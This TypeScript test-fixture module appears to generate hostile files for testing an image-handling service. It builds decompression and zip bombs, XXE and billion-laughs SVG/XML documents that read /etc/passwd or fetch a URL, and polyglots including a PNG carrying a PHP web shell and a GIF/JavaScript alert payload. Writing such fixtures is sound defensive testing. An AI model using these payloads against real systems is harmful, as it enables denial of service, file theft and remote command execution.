import { crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { readImage } from "../../support/fixtures.js";
import { pngChunk } from "../../support/images.js";
import {
  declareDimensions,
  gifBlocks,
  jpegInsertAfterSoi,
  jpegSegment,
  pngInsertAfterIhdr,
  tiffWithPages,
} from "./formats.js";

/**
 * Hostile inputs built from the real shared photos by editing their encoded
 * bytes (headers, segments, frames), never by trusting a decoder to write
 * them. Each builder is deterministic.
 */

export const eagle = (): Buffer => readImage("bald_eagle.jpeg");

/** A deterministic pseudo-random byte filler (xorshift), so garbage is the same on every run. */
export function pseudoRandomBytes(length: number, seed = 0x9e3779b9): Buffer {
  const out = Buffer.allocUnsafe(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

// --- decompression bombs: real encoded images whose headers declare a huge size -----

export const pngBomb = (width: number, height: number): Buffer => declareDimensions(readImage("chelsea.png"), width, height);
export const jpegBomb = (width: number, height: number): Buffer => declareDimensions(eagle(), width, height);

export async function webpBomb(kind: "lossy" | "lossless" | "extended", width: number, height: number): Promise<Buffer> {
  const src = sharp(eagle()).resize(200);
  const encoded =
    kind === "lossy" ? await src.webp().toBuffer() : kind === "lossless" ? await src.webp({ lossless: true }).toBuffer() : await src.ensureAlpha(0.5).webp().toBuffer();
  return declareDimensions(encoded, width, height);
}

export async function gifBomb(width: number, height: number): Promise<Buffer> {
  return declareDimensions(await sharp(eagle()).resize(200).gif().toBuffer(), width, height);
}

export async function tiffBomb(width: number, height: number): Promise<Buffer> {
  return declareDimensions(await sharp(eagle()).resize(200).tiff({ compression: "deflate" }).toBuffer(), width, height);
}

/**
 * A genuinely encoded grey PNG of side x side pixels of one value: about a
 * thousand times smaller than its pixels (zlib's best ratio).
 */
export function realPngBomb(side: number): Buffer {
  const row = Buffer.alloc(side + 1); // filter byte 0, then grey 0 pixels
  const raw = Buffer.alloc(row.length * side);
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(raw, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// --- many large frames or pages -------------------------------------------------

/**
 * An animated GIF whose first frame is the eagle at side x side and which then
 * repeats a side x side one-colour frame until it has `frames` frames: each
 * repeat costs a few KB of LZW but side*side pixels to decode.
 */
export async function multiFrameGif(frames: number, side: number): Promise<Buffer> {
  const first = await sharp(eagle()).resize(side, side, { fit: "fill" }).gif().toBuffer();
  const solid = await sharp({ create: { width: side, height: side, channels: 3, background: { r: 90, g: 90, b: 90 } } })
    .gif()
    .toBuffer();
  const firstBlocks = gifBlocks(first);
  const lastImage = firstBlocks.filter((b) => b.kind === "image").at(-1);
  const solidImage = gifBlocks(solid).find((b) => b.kind === "image");
  if (lastImage === undefined || solidImage === undefined) throw new Error("could not find GIF frames");
  // A graphic control extension (no disposal, 10 ms) before each repeated frame makes it an animation frame.
  const gce = Buffer.from([0x21, 0xf9, 0x04, 0x00, 0x01, 0x00, 0x00, 0x00]);
  const repeat = Buffer.concat([gce, solid.subarray(solidImage.start, solidImage.end)]);
  // NETSCAPE2.0 loop extension right after the global colour table.
  const flags = first[10]!;
  const headerEnd = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0);
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from("NETSCAPE2.0", "latin1"), 0x03, 0x01, 0x00, 0x00, 0x00]);
  const parts = [first.subarray(0, headerEnd), loop, first.subarray(headerEnd, lastImage.end)];
  for (let i = 1; i < frames; i++) parts.push(repeat);
  parts.push(Buffer.from([0x3b]));
  return Buffer.concat(parts);
}

/** A TIFF of `pages` pages of the eagle at side x side (JPEG-compressed strips shared by every page). */
export async function multiPageTiff(pages: number, side: number, options: { loop?: boolean } = {}): Promise<Buffer> {
  const one = await sharp(eagle()).resize(side, side, { fit: "fill" }).tiff({ compression: "jpeg", quality: 70 }).toBuffer();
  return tiffWithPages(one, pages, options);
}

// --- SVG and XML with external entities -------------------------------------------

/** SVG and XML documents that would fetch `url` if anything resolved their entities or links. */
export function xxeDocuments(url: string): [string, Buffer][] {
  const docs: [string, string][] = [
    [
      "SVG with an external entity",
      `<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "${url}/entity">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text>&xxe;</text></svg>`,
    ],
    ["SVG with a file entity", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>`],
    [
      "SVG with an external image and stylesheet",
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><style>@import url(${url}/css);</style><image xlink:href="${url}/image.png" width="64" height="64"/></svg>`,
    ],
    ["XML parameter entity (billion laughs)", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY % ext SYSTEM "${url}/dtd"> %ext;]><svg>&lol3;</svg>`],
    ["SVG after a UTF-8 BOM and 300 bytes of whitespace", `\ufeff${" ".repeat(300)}<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/late.png"/></svg>`],
    ["SVG with a comment first", `<!-- ${"x".repeat(400)} --><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}/js')"/>`],
    ["gzip-compressed SVG (svgz)", ""],
  ];
  return docs.map(([name, text]) =>
    name.startsWith("gzip") ? [name, gzipSync(Buffer.from(docs[0]![1], "utf8"))] : [name, Buffer.from(text, "utf8")],
  );
}

// --- archives: polyglots and zip bombs ----------------------------------------------

/** A minimal ZIP archive (one entry per file, stored or deflated). */
export function zipArchive(files: readonly { name: string; data: Buffer; deflate?: boolean; declaredSize?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, "utf8");
    const body = f.deflate === true ? deflateRawSync(f.data, { level: 9 }) : f.data;
    const crc = crc32(f.data);
    const size = f.declaredSize ?? f.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(f.deflate === true ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(f.deflate === true ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** A ZIP whose entries (the OOXML content-types file the sniffer looks into, among them) inflate to `mb` MiB each. */
export function zipBomb(mb: number, entries = 4): Buffer {
  const zeros = Buffer.alloc(mb * 1024 * 1024);
  const names = ["[Content_Types].xml", "mimetype", "word/document.xml", "META-INF/container.xml"];
  return zipArchive(Array.from({ length: entries }, (_, i) => ({ name: names[i % names.length]! + (i >= names.length ? String(i) : ""), data: zeros, deflate: true })));
}

/** A gzip stream that inflates to `mb` MiB of zeros. */
export const gzipBomb = (mb: number): Buffer => gzipSync(Buffer.alloc(mb * 1024 * 1024), { level: 9 });

export function polyglots(): [string, Buffer, "image/jpeg" | "image/gif" | "image/png" | undefined][] {
  const jpeg = eagle();
  const html = Buffer.from(`<html><body><script>document.title="polyglot"</script></body></html>`, "utf8");
  const zip = zipArchive([
    { name: "index.html", data: html },
    { name: "payload.sh", data: Buffer.from("#!/bin/sh\necho owned\n") },
  ]);
  return [
    ["JPEG with a ZIP appended", Buffer.concat([jpeg, zip]), "image/jpeg"],
    ["JPEG with HTML appended", Buffer.concat([jpeg, html]), "image/jpeg"],
    ["JPEG with HTML in a COM segment", jpegInsertAfterSoi(jpeg, [jpegSegment(0xfe, html)]), "image/jpeg"],
    ["ZIP with a JPEG appended (ZIP first)", Buffer.concat([zip, jpeg]), undefined],
    ["HTML with a JPEG appended (HTML first)", Buffer.concat([html, jpeg]), undefined],
    ["PNG with PHP in a tEXt chunk", pngInsertAfterIhdr(readImage("chelsea.png"), [pngChunk("tEXt", Buffer.from("Comment\0<?php system($_GET['c']); ?>", "latin1"))]), "image/png"],
  ];
}

/**
 * A GIF that is also JavaScript: its logical screen width bytes are the two
 * characters slash-star, opening a JS comment that a trailer closes before
 * `=alert(1)`. Built from a real GIF of the eagle.
 */
export async function gifJsPolyglot(): Promise<Buffer> {
  const gif = await sharp(eagle()).resize(320).gif().toBuffer();
  const out = Buffer.from(gif);
  out.write("/*", 6, "latin1"); // width 0x2A2F = 10799
  const end = Buffer.from("*/=alert(document.domain);//", "latin1");
  return Buffer.concat([out.subarray(0, out.length - 1), Buffer.from([0x3b]), end]);
}

// --- enormous metadata ------------------------------------------------------------

/** The eagle with real EXIF first, then APP1 Exif segments of pseudo-random bytes until the file is about `totalBytes`. */
export async function jpegWithHugeExif(totalBytes: number): Promise<Buffer> {
  const base = await sharp(eagle())
    .withExif({ IFD0: { ImageDescription: "d".repeat(60_000), Copyright: "c".repeat(1000), Orientation: "1" } })
    .jpeg()
    .toBuffer();
  const segments: Buffer[] = [];
  let size = base.length;
  for (let i = 0; size + 65537 < totalBytes; i++) {
    const payload = Buffer.concat([Buffer.from("Exif\0\0", "latin1"), pseudoRandomBytes(65_533 - 6, i + 1)]);
    segments.push(jpegSegment(0xe1, payload));
    size += payload.length + 4;
  }
  return jpegInsertAfterSoi(base, segments);
}

/**
 * The eagle with an ICC profile of about `profileBytes`: a real profile
 * (sharp's built-in P3) whose declared size is padded out, split over as
 * many APP2 ICC_PROFILE segments as needed (at most 255).
 */
export async function jpegWithHugeIcc(profileBytes: number, options: { garbage?: boolean } = {}): Promise<Buffer> {
  const withIcc = await sharp(eagle()).withIccProfile("p3").jpeg().toBuffer();
  const { icc } = await sharp(withIcc).metadata();
  if (icc === undefined) throw new Error("sharp did not embed an ICC profile");
  const profile = Buffer.alloc(profileBytes);
  if (options.garbage === true) pseudoRandomBytes(profileBytes, 7).copy(profile);
  else {
    icc.copy(profile);
    profile.writeUInt32BE(profileBytes, 0);
  }
  const per = 65_533 - 14;
  const count = Math.ceil(profileBytes / per);
  if (count > 255) throw new Error("an ICC profile spans at most 255 APP2 segments");
  const segments: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const head = Buffer.concat([Buffer.from("ICC_PROFILE\0", "latin1"), Buffer.from([i + 1, count])]);
    segments.push(jpegSegment(0xe2, Buffer.concat([head, profile.subarray(i * per, (i + 1) * per)])));
  }
  // The eagle without its own profile, so only ours is there.
  return jpegInsertAfterSoi(await sharp(eagle()).jpeg().toBuffer(), segments);
}

/** chelsea.png with one ancillary chunk of `bytes` bytes (zTXt, iTXt, eXIf, or an unknown private chunk) after IHDR. */
export function pngWithHugeChunk(type: "zTXt" | "iTXt" | "eXIf" | "prIv" | "iCCP", bytes: number): Buffer {
  let data: Buffer;
  switch (type) {
    case "zTXt":
      data = Buffer.concat([Buffer.from("Comment\0\0", "latin1"), deflateSync(pseudoRandomBytes(bytes, 3))]);
      break;
    case "iTXt":
      data = Buffer.concat([Buffer.from("Comment\0\0\0\0\0", "latin1"), pseudoRandomBytes(bytes, 4)]);
      break;
    case "eXIf":
      data = Buffer.concat([Buffer.from("MM\0*\0\0\0\x08", "latin1"), pseudoRandomBytes(bytes - 8, 5)]);
      break;
    case "iCCP":
      // A compressed profile that inflates to `bytes` zeros: a small chunk, a large profile.
      data = Buffer.concat([Buffer.from("icc\0\0", "latin1"), deflateSync(Buffer.alloc(bytes), { level: 9 })]);
      break;
    default:
      data = pseudoRandomBytes(bytes, 6);
  }
  return pngInsertAfterIhdr(readImage("chelsea.png"), [pngChunk(type, data)]);
}
